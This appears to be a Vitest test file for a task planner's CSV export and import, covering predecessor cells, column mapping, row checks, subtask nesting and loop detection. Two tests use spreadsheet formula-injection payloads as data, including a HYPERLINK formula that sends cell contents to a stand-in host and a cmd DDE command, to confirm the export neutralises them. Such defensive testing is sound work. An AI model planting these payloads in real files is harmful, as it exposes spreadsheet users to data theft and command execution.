// CSV export and import as a user meets them: the columns a spreadsheet shows, the predecessor
// column, guessed mappings, and rows refused with the interface's reasons.
import { describe, expect, it } from 'vitest'
import fc from 'fast-check'
import Papa from 'papaparse'
import type { Dependency } from '../../src-shared/api'
import { csvRows, tasksCsv } from '../../src-shared/exchange/csv-export'
import { planCsv, readCsv } from '../../src-shared/exchange/csv-import'
import { loopClosers } from '../../src-shared/exchange/link-loops'
import { guessMapping } from '../../src-shared/exchange/csv-mapping'
import { createBatches, planTasks } from '../../src-shared/exchange/import-plan'
import { parsePredecessors, predecessorCell } from '../../src-shared/exchange/predecessors'
import { buildTask } from '../support/task-builder'

const dep = (pred: [string, string, number], succ: string, lagDays: number): Dependency =>
  ({
    id: `${pred[0]}>${succ}`,
    predecessorId: pred[0],
    predecessorProjectKey: pred[1],
    predecessorKey: pred[2],
    successorId: succ,
    lagDays,
  }) as Dependency

describe('CSV export', () => {
  const a = buildTask('a', { projectKey: 'APP', key: 3, title: 'Design, "v2"', tags: ['ui', 'x'] })
  const b = buildTask('b', { projectKey: 'APP', key: 4, properties: { Points: 5, Live: true } })
  const c = buildTask('c', { projectKey: 'OPS', key: 1, properties: { Platforms: ['iOS', 'Web'] } })
  const deps = [dep(['a', 'APP', 3], 'c', 2), dep(['b', 'APP', 4], 'c', 0)]

  it('has every Task field, one column per property and the predecessors as APP-3+2d', () => {
    const [header, ...rows] = csvRows([a, b, c], deps)
    expect(header).toEqual(
      expect.arrayContaining(['id', 'parentId', 'key', 'title', 'milestoneId', 'endedBy']),
    )
    expect(header!.slice(-4)).toEqual([
      'prop_Live',
      'prop_Platforms',
      'prop_Points',
      'predecessors',
    ])
    expect(rows[2]!.at(-1)).toBe('APP-3+2d; APP-4')
    expect(rows[2]![header!.indexOf('prop_Platforms')]).toBe('iOS; Web')
    expect(rows[1]![header!.indexOf('prop_Live')]).toBe('true')
  })

  it('quotes commas and quotes so the file reads back the same', () => {
    const table = readCsv(tasksCsv([a], []))
    expect(table.rows[0]![table.headers.indexOf('title')]).toBe('Design, "v2"')
    expect(table.rows[0]![table.headers.indexOf('tags')]).toBe('ui; x')
  })

  it('writes no cell a spreadsheet would run as a formula, and still reads back the same', () => {
    const hostile = buildTask('h', {
      title: '=HYPERLINK("https://evil.example/?"&A2,"Click")',
      description: '+cmd|" /C calc"!A0',
      assignedUserEmail: '@SUM(1+1)',
      status: '-2+3',
      tags: ['\t=1+1'],
      properties: { Notes: "'=already escaped", Quote: "'plain", Plain: 'plain' },
    })
    const text = tasksCsv([hostile], [])
    const [, row] = readCsvRaw(text)
    for (const cell of row!) expect(cell, cell).not.toMatch(/^[=+\-@\t\r]/)
    const table = readCsv(text)
    const cell = (name: string) => table.rows[0]![table.headers.indexOf(name)]
    expect(cell('title')).toBe(hostile.title)
    expect(cell('description')).toBe(hostile.description)
    expect(cell('assignedUserEmail')).toBe('@SUM(1+1)')
    expect(cell('status')).toBe('-2+3')
    // A tag with a tab at its start is written in the exact (JSON) list form.
    expect(planCsv(table, guessMapping(table.headers)).roots[0]!.item.tags).toEqual(['\t=1+1'])
    expect(cell('prop_Notes')).toBe("'=already escaped")
    expect(cell('prop_Quote')).toBe("'plain")
    expect(cell('prop_Plain')).toBe('plain')
  })

  it('writes no formula where a spreadsheet splitting on ";", "|" or tabs starts a cell', () => {
    const hostile = buildTask('h', {
      title: "Budget;=cmd|' /C calc'!A0;",
      description: 'first line\n=HYPERLINK("x")\r\n+1|@SUM(1)\t-2;"=3"',
      tags: ['ok', 'x;@SUM(1+1)'],
      properties: { Note: "a;'=b;''c" },
    })
    const text = tasksCsv([hostile], [])
    // A reader that splits each line on any of these, quotes or not (a locale whose list
    // separator is ";" reads the planner's commas as text and its ";" as cell breaks).
    for (const line of text.split(/\r\n|\r|\n/))
      for (const piece of line.split(/[;|\t"]/)) expect(piece, line).not.toMatch(/^[=+\-@]/)
    const table = readCsv(text)
    const cell = (name: string) => table.rows[0]![table.headers.indexOf(name)]
    expect(cell('title')).toBe(hostile.title)
    expect(cell('description')).toBe(hostile.description)
    expect(cell('prop_Note')).toBe("a;'=b;''c")
    const plan = planCsv(table, guessMapping(table.headers))
    expect(plan.roots[0]!.item.tags).toEqual(['ok', 'x;@SUM(1+1)'])
  })

  it("keeps a file's own quotes inside its cells when only the board's own columns are there", () => {
    // A dump of the API's JSON has the board's audit columns but no predecessors column: read as
    // the planner's export, its descriptions lost quotes after ';' or a line break.
    const header =
      'id,parentId,projectKey,key,milestoneId,createdAt,createdBy,updatedAt,updatedBy,description'
    const table = readCsv(`${header}\nt1,,WEB,1,,,,,,"a;'=b"\n`)
    expect(table.rows[0]![table.headers.indexOf('description')]).toBe("a;'=b")
  })

  it("keeps a file's own quotes inside its cells when the planner did not write it", () => {
    // Every guard position was read as the planner's: a description line `'''docstring` from
    // another tool lost a quote, `'-- note` its only one. Only a leading one marks text there.
    const table = readCsv(`title,description\n"'=A1","x\n'''docstring\n'-- note"\n`)
    expect(table.rows[0]).toEqual(['=A1', "x\n'''docstring\n'-- note"])
  })

  it('reads an export back exactly after a column was deleted in a spreadsheet', () => {
    const task = buildTask('t', { description: 'Steps:\n- one\n=SUM' })
    const text = tasksCsv([task], [])
    const [header, ...rest] = text.split('\r\n')
    const columns = header!.split(',')
    const drop = columns.indexOf('coverImageUrl')
    // Remove the column (its cells are empty here: no quoted comma to trip over).
    const cut = (line: string) => {
      const cells = line.split(',')
      if (cells.length === columns.length) cells.splice(drop, 1)
      return cells.join(',')
    }
    const table = readCsv([cut(header!), ...rest.map(cut)].join('\r\n'))
    expect(table.rows[0]![table.headers.indexOf('description')]).toBe(task.description)
  })

  it('reads back tags and multi-select values holding ";" or spaces at their ends exactly', () => {
    const task = buildTask('t', {
      tags: ['x;y', ' sp ', 'ünï'],
      properties: { Platforms: ['a;b', 'c'], Plain: ['iOS', 'Web'] },
    })
    const text = tasksCsv([task], [])
    const table = readCsv(text)
    const plan = planCsv(table, guessMapping(table.headers), {
      propertyTypes: new Map([
        ['Platforms', 'Multi-Select'],
        ['Plain', 'Multi-Select'],
      ]),
    })
    expect(plan.roots[0]!.item.tags).toEqual(['x;y', ' sp ', 'ünï'])
    expect(plan.roots[0]!.item.properties).toEqual({
      Platforms: ['a;b', 'c'],
      Plain: ['iOS', 'Web'],
    })
    // Plain values stay as people type them.
    expect(table.rows[0]![table.headers.indexOf('prop_Plain')]).toBe('iOS; Web')
  })

  it('imports a title as the board holds it, spaces and tabs at its ends included', () => {
    const titles = ['  spaced  ', '\tTab', ' =HYPERLINK("x")']
    const text = tasksCsv(
      titles.map((title, i) => buildTask(`t${i}`, { title })),
      [],
    )
    const table = readCsv(text)
    const plan = planCsv(table, guessMapping(table.headers))
    expect(plan.roots.map((t) => t.item.title)).toEqual(titles)
  })
})

/** The cells as a spreadsheet sees them: split, unquoted, nothing taken off. */
function readCsvRaw(text: string): string[][] {
  return Papa.parse<string[]>(text, { skipEmptyLines: 'greedy' }).data
}

describe('predecessor cells', () => {
  it('read APP-3+2d, leads and several refs; say which part is unreadable', () => {
    expect(parsePredecessors('APP-3+2d; OPS-10 , APP-5-1d')).toEqual({
      ok: true,
      refs: [
        { projectKey: 'APP', key: 3, lagDays: 2 },
        { projectKey: 'OPS', key: 10, lagDays: 0 },
        { projectKey: 'APP', key: 5, lagDays: -1 },
      ],
    })
    expect(parsePredecessors('APP-3; after lunch')).toEqual({
      ok: false,
      problem: '"after lunch" is not a predecessor like APP-3 or APP-3+2d',
    })
    expect(predecessorCell('x', [])).toBe('')
  })

  it('read back what the export writes for another board: keys with "-", fractional lags', () => {
    expect(parsePredecessors('MY-PROJ-12+2.5d; MY-PROJ-3-1d; V1.2-7')).toEqual({
      ok: true,
      refs: [
        { projectKey: 'MY-PROJ', key: 12, lagDays: 2.5 },
        { projectKey: 'MY-PROJ', key: 3, lagDays: -1 },
        { projectKey: 'V1.2', key: 7, lagDays: 0 },
      ],
    })
    // A project key ending in "-<digits>": what the export writes for task 7 of V-2 reads back.
    expect(parsePredecessors('V-2-7; Q-2024-5+1d; V-2-7-3d')).toEqual({
      ok: true,
      refs: [
        { projectKey: 'V-2', key: 7, lagDays: 0 },
        { projectKey: 'Q-2024', key: 5, lagDays: 1 },
        { projectKey: 'V-2', key: 7, lagDays: -3 },
      ],
    })
  })
})

describe('CSV import', () => {
  it('guesses columns from common headers and from the planner export', () => {
    const mapping = guessMapping(
      ['Task Name', 'Start', 'Finish', 'Assignee', 'Story points', 'x'],
      ['Story Points'],
    )
    expect(mapping).toEqual([
      { kind: 'field', field: 'title' },
      { kind: 'field', field: 'startDate' },
      { kind: 'field', field: 'dueDate' },
      { kind: 'field', field: 'assignedUserEmail' },
      { kind: 'property', name: 'Story Points' },
      { kind: 'ignore' },
    ])
    expect(guessMapping(['projectKey', 'key', 'prop_Area', 'predecessors'])).toEqual([
      { kind: 'field', field: 'projectKey' },
      { kind: 'field', field: 'key' },
      { kind: 'property', name: 'Area' },
      { kind: 'field', field: 'predecessors' },
    ])
  })

  it('checks every row with the create rules and links rows by their keys', () => {
    const csv = [
      'projectKey,key,title,startDate,dueDate,priority,type,prop_Points,predecessors',
      'APP,1,Plan,2026-03-02,2026-03-04,high,task,3,',
      'APP,2,Build,2026-03-05,2026-03-09,,task,x,APP-1',
      'APP,3,,2026-03-05,2026-03-09,,,,',
      'APP,4,Ship,2026-03-10,2026-03-12,urgent,,,APP-1+2d; OPS-7',
      'APP,5,Launch,2026-03-01,2026/03/20,,milestone,,APP-4',
      'APP,6,Review,2026-03-12,2026-03-10,,,,APP-1-1d',
      // The same day, the start at 17:00 after the due at 09:00: the board compares instants.
      'APP,7,Demo,2026-03-12T17:00:00Z,2026-03-12T09:00:00Z,,,,',
    ].join('\n')
    const table = readCsv(csv)
    const plan = planCsv(table, guessMapping(table.headers), {
      propertyTypes: new Map([['Points', 'Number']]),
    })
    expect(plan.roots.map((t) => t.item.title)).toEqual(['Plan'])
    const problems = Object.fromEntries(plan.checks.map((c) => [c.line, c.problems.join(' | ')]))
    expect(problems[2]).toBe('')
    expect(problems[3]).toBe('Points: "x" is not a number')
    expect(problems[4]).toContain('title: must not be blank')
    expect(problems[5]).toContain('priority')
    expect(problems[6]).toContain('dueDate: must be an ISO 8601 date')
    expect(problems[7]).toBe(
      'startDate: the start (2026-03-12T00:00:00.000Z) is after the due date (2026-03-10T00:00:00.000Z)',
    )
    expect(problems[8]).toBe(
      'startDate: the start (2026-03-12T17:00:00.000Z) is after the due date (2026-03-12T09:00:00.000Z)',
    )
    expect(plan.skipped).toHaveLength(6)
  })

  it('makes links to rows of the file, to tasks already on the board, and refuses leads', () => {
    const csv = [
      'projectKey,key,title,predecessors',
      'APP,1,Plan,',
      'APP,2,Build,APP-1+2d; OPS-7',
      'APP,3,Test,APP-1-1d',
    ].join('\n')
    const table = readCsv(csv)
    const plan = planCsv(table, guessMapping(table.headers))
    expect(plan.links).toEqual([
      expect.objectContaining({ predecessor: { ref: '2' }, successorRef: '3', lagDays: 2 }),
      expect.objectContaining({
        predecessor: { existing: { projectKey: 'OPS', key: 7 } },
        successorRef: '3',
      }),
    ])
    expect(plan.skipped).toEqual([
      {
        source: 'APP-1-1d of row 4',
        reason: 'a lead of 1 day(s): the board takes no negative lag',
      },
    ])
  })

  it('imports a row whose predecessor cell it cannot read, leaving out only its links', () => {
    const csv = ['ID,Name,Predecessors', '1,Plan,', '2,Build,2FS+1 day', '3,Test,1'].join('\n')
    const table = readCsv(csv)
    const plan = planCsv(table, guessMapping(table.headers))
    expect(plan.roots.map((t) => t.item.title)).toEqual(['Plan', 'Build', 'Test'])
    expect(plan.links).toEqual([])
    expect(plan.skipped.map((s) => s.source)).toEqual([
      'predecessors of row 3',
      'predecessors of row 4',
    ])
    expect(plan.skipped[0]!.reason).toContain('"2FS+1 day" is not a predecessor like APP-3')
  })

  it('leaves out links the board would refuse: on itself, twice over, closing a loop', () => {
    const csv = [
      'projectKey,key,title,predecessors',
      'APP,1,Plan,APP-2',
      'APP,2,Build,APP-1',
      'APP,3,Test,APP-3; APP-1; APP-1+2d',
      'APP,3,Again,',
    ].join('\n')
    const table = readCsv(csv)
    const plan = planCsv(table, guessMapping(table.headers))
    expect(plan.links.map((l) => l.label)).toEqual(['APP-2 of row 2', 'APP-1 of row 4'])
    const reasons = Object.fromEntries(plan.skipped.map((s) => [s.source, s.reason]))
    expect(reasons['APP-1 of row 3']).toMatch(/loop/)
    expect(reasons['APP-3 of row 4']).toMatch(/itself/)
    expect(reasons['APP-1+2d of row 4']).toMatch(/already/)
    expect(plan.notes.join(' ')).toMatch(/rows 4 and 5 are both APP-3/)
  })

  it('links a predecessor to the file’s row whatever the case of its key (app-1 is APP-1)', () => {
    const csv = ['projectKey,key,title,predecessors', 'APP,1,Plan,', 'APP,2,Build,app-1+2d'].join(
      '\n',
    )
    const table = readCsv(csv)
    const plan = planCsv(table, guessMapping(table.headers))
    expect(plan.links).toEqual([
      expect.objectContaining({ predecessor: { ref: '2' }, successorRef: '3', lagDays: 2 }),
    ])
  })

  it('says where a quote is never closed, and which row has more cells than the header', () => {
    expect(() => readCsv('title,startDate\n"Broken,2026-01-01\nSecond,2026-01-02\n')).toThrow(
      /row 2.*quote/i,
    )
    const table = readCsv('title,startDate\nHello, world,2026-01-02\nFine,2026-01-03,,\n')
    const plan = planCsv(table, guessMapping(table.headers))
    expect(plan.roots.map((t) => t.item.title)).toEqual(['Fine'])
    expect(plan.checks[0]!.problems.join(' ')).toMatch(/3 cells.*header has 2/)
  })

  it('names statuses and assignees the board has not shown, before anything is sent', () => {
    const csv = [
      'title,status,assignee',
      'A,Not started,ada@example.com',
      'B,To Do,ADA@example.com',
      'C,Not started,stranger@example.com',
      'D,,',
    ].join('\n')
    const table = readCsv(csv)
    const plan = planCsv(table, guessMapping(table.headers), {
      knownStatuses: ['To Do', 'Done'],
      knownPeople: ['ada@example.com'],
    })
    expect(planTasks(plan)).toHaveLength(4)
    const note = plan.notes.join(' ')
    expect(note).toContain('status "Not started" (row 2, 4)')
    expect(note).toContain('assignee "stranger@example.com" (row 4)')
    expect(note).not.toContain('ADA@')
    // A board that has shown nothing yet: nothing to judge by.
    expect(planCsv(table, guessMapping(table.headers), { knownStatuses: [] }).notes).toEqual([])
  })

  it('names property columns the board has not shown, before anything is sent', () => {
    const table = readCsv(['title,prop_Points,prop_Colour,Size', 'A,3,red,', 'B,,blue,'].join('\n'))
    const mapping = guessMapping(table.headers)
    mapping[3] = { kind: 'property', name: 'Size' }
    const plan = planCsv(table, mapping, { propertyTypes: new Map([['Points', 'Number']]) })
    expect(planTasks(plan)).toHaveLength(2)
    const note = plan.notes.join(' ')
    expect(note).toContain('Properties not seen on this board: "Colour" (row 2, 3)')
    expect(note).not.toContain('"Points"')
    // An empty column sends nothing.
    expect(note).not.toContain('"Size"')
    expect(note).toMatch(/refuses a property it does not have/)
  })

  it('reads a file whose lines end in CRLF, CR and LF mixed, quoted line breaks kept', () => {
    const table = readCsv('title,description\nA,1\r\nB,2\rC,3\n"D\r\nE","x\ry"\r\n')
    expect(table.rows).toEqual([
      ['A', '1'],
      ['B', '2'],
      ['C', '3'],
      ['D\r\nE', 'x\ry'],
    ])
  })

  it('previews 20,000 rows with the same unknown status in linear time', () => {
    const rows = ['title,status']
    for (let i = 0; i < 20_000; i++) rows.push(`Task ${i},Backlog`)
    const table = readCsv(rows.join('\n'))
    const started = performance.now()
    const plan = planCsv(table, guessMapping(table.headers), { knownStatuses: ['To Do'] })
    // Copying the row list for each row took 5.4 s here; linear it is well under a second.
    expect(performance.now() - started).toBeLessThan(2_500)
    expect(plan.notes.join(' ')).toContain('status "Backlog" (20000 rows)')
  })

  it('keeps notes short when many rows share one id or one key', () => {
    const rows = ['id,parentId,projectKey,key,title']
    for (let i = 0; i < 1_000; i++) rows.push(`1,1,APP,1,Task ${i}`)
    const table = readCsv(rows.join('\n'))
    const plan = planCsv(table, guessMapping(table.headers))
    // Each row's note repeated the whole list of rows sharing its id: 10 MB here, and out of
    // memory at 20,000 rows.
    for (const note of plan.notes) expect(note.length).toBeLessThan(2_000)
    const notes = plan.notes.join(' ')
    expect(notes).toContain('row 3: its parent id 1 is on row 2, row 3, row 4 and 997 more;')
    expect(notes).toMatch(/; and 990 more\./)
    expect(notes).toContain('rows 2, 3, 4 and 997 more are all APP-1')
  })

  it('takes the separator a "sep=" first line names (Excel writes one)', () => {
    const table = readCsv('sep=;\ntitle;startDate\nPlan;2026-03-02\n')
    expect(table.headers).toEqual(['title', 'startDate'])
    expect(table.rows).toEqual([['Plan', '2026-03-02']])
  })

  it('re-imports the export’s subtasks as subtasks: a row under the row its parentId names', () => {
    const parent = buildTask('p1', { projectKey: 'APP', key: 1, title: 'Release' })
    const child = buildTask('c1', { projectKey: 'APP', key: 2, title: 'Notes', parentId: 'p1' })
    const grandchild = buildTask('g1', {
      projectKey: 'APP',
      key: 3,
      title: 'Changelog',
      parentId: 'c1',
    })
    const other = buildTask('o1', { projectKey: 'APP', key: 4, title: 'Alone', parentId: 'x9' })
    const table = readCsv(tasksCsv([grandchild, child, parent, other], []))
    const plan = planCsv(table, guessMapping(table.headers))
    const tree = (tasks: typeof plan.roots): unknown[] =>
      tasks.map((t) => (t.children.length ? [t.item.title, tree(t.children)] : t.item.title))
    // File order kept; the parent's subtree under it wherever its rows are.
    expect(tree(plan.roots)).toEqual([['Release', [['Notes', ['Changelog']]]], 'Alone'])
    expect(plan.notes.join(' ')).toContain(
      'row 5: its parent x9 is not a row imported from this file',
    )
  })

  it('keeps loops, milestones and nesting past 8 levels at the top level, and says so', () => {
    const rows = ['id,parentId,title,type', 'a,b,A,', 'b,a,B,', 'c,c,C,', 'm,,M,milestone']
    rows.push('m2,c,M2,milestone', 'u,m,Under M,')
    // A chain of 10: the 9th and 10th would nest too deep.
    for (let i = 1; i <= 10; i++) rows.push(`n${i},${i > 1 ? `n${i - 1}` : ''},N${i},`)
    const table = readCsv(rows.join('\n'))
    const plan = planCsv(table, guessMapping(table.headers))
    const depth = (task: (typeof plan.roots)[number]): number =>
      1 + Math.max(0, ...task.children.map(depth))
    expect(Math.max(...plan.roots.map(depth))).toBe(8)
    expect(planTasks(plan)).toHaveLength(16)
    const notes = plan.notes.join(' ')
    expect(notes).toContain('row 2: its parents lead back to it')
    expect(notes).toContain('row 4: it names itself as its parent')
    // The interface's milestone rule, both ways.
    expect(notes).toContain('row 6: a milestone cannot be a subtask')
    expect(notes).toContain('row 7: its parent row 5 is a milestone, which takes no subtasks')
    expect(notes).toContain('row 16: under its parent it would nest 9 levels deep')
  })

  it('takes a board property named ID or Parent as that property; a Parent with no ids is said', () => {
    expect(guessMapping(['ID', 'Parent', 'Title'], ['Parent'])).toEqual([
      { kind: 'field', field: 'id' },
      { kind: 'property', name: 'Parent' },
      { kind: 'field', field: 'title' },
    ])
    const table = readCsv(['Name,Parent', 'A,', 'B,A'].join('\n'))
    const plan = planCsv(table, guessMapping(table.headers))
    expect(plan.roots).toHaveLength(2)
    expect(plan.notes.join(' ')).toContain('every row is imported at the top level')
  })

  it('leaves a row whose parent id is on several rows at the top (ids numbered again per section)', () => {
    const table = readCsv(
      ['ID,Name,Parent', '1,Phase A,', '2,A1,1', '1,Phase B,', '2,B1,1'].join('\n'),
    )
    const plan = planCsv(table, guessMapping(table.headers))
    expect(plan.roots.every((t) => t.children.length === 0)).toBe(true)
    expect(plan.notes.join(' ')).toContain('row 3: its parent id 1 is on row 2, row 4')
  })

  it('nests a chain of 20,000 rows listed child first without failing, 8 levels at most', () => {
    const rows = ['id,parentId,title']
    for (let i = 20_000; i >= 1; i--) rows.push(`r${i},${i > 1 ? `r${i - 1}` : ''},T${i}`)
    const table = readCsv(rows.join('\n'))
    const plan = planCsv(table, guessMapping(table.headers))
    expect(planTasks(plan)).toHaveLength(20_000)
    const depth = (task: (typeof plan.roots)[number]): number =>
      1 + Math.max(0, ...task.children.map(depth))
    expect(Math.max(...plan.roots.map(depth))).toBe(8)
    expect(plan.roots).toHaveLength(2_500)
  })

  it('keeps a tree larger than one create request flat', () => {
    const rows = ['id,parentId,title', 'p,,Parent']
    for (let i = 1; i <= 1_000; i++) rows.push(`c${i},p,Child ${i}`)
    const table = readCsv(rows.join('\n'))
    const plan = planCsv(table, guessMapping(table.headers))
    expect(plan.roots).toHaveLength(1_001)
    expect(plan.notes.join(' ')).toContain(
      'row 2 and its 1000 subtasks: more than the 1000 tasks one request creates',
    )
  })

  it('splits large imports into batches, never splitting a tree', () => {
    const leaf = (ref: string) => ({
      ref,
      item: { title: ref, descriptionType: 'text' as const, descriptionContent: '' },
      children: [],
      source: ref,
    })
    const tree = { ...leaf('t'), children: [leaf('t1'), leaf('t2')] }
    const batches = createBatches([leaf('a'), leaf('b'), tree, leaf('c')], 3)
    expect(batches.map((b) => b.map((t) => t.ref))).toEqual([['a', 'b'], ['t'], ['c']])
    expect(planTasks({ roots: [tree] }).map((t) => t.ref)).toEqual(['t', 't1', 't2'])
  })
})

describe('links that would close a loop', () => {
  /** Each link in order, refused when the ones taken before it already lead back. */
  function searchedOneByOne(links: readonly (readonly [string, string])[]): number[] {
    const next = new Map<string, string[]>()
    const reaches = (from: string, to: string) => {
      const queue = [from]
      const seen = new Set(queue)
      for (let i = 0; i < queue.length; i++)
        for (const n of next.get(queue[i]!) ?? []) {
          if (n === to) return true
          if (!seen.has(n)) {
            seen.add(n)
            queue.push(n)
          }
        }
      return false
    }
    return links.flatMap(([from, to], i) => {
      if (reaches(to, from)) return [i]
      next.set(from, [...(next.get(from) ?? []), to])
      return []
    })
  }

  it('are the ones a search of the links before each finds, on any file', () => {
    const node = fc.integer({ min: 0, max: 8 }).map(String)
    const link = fc.tuple(node, node).filter(([a, b]) => a !== b)
    fc.assert(
      fc.property(fc.array(link, { maxLength: 30 }), (links) => {
        expect([...loopClosers(links)].sort((a, b) => a - b)).toEqual(searchedOneByOne(links))
      }),
    )
  })
})
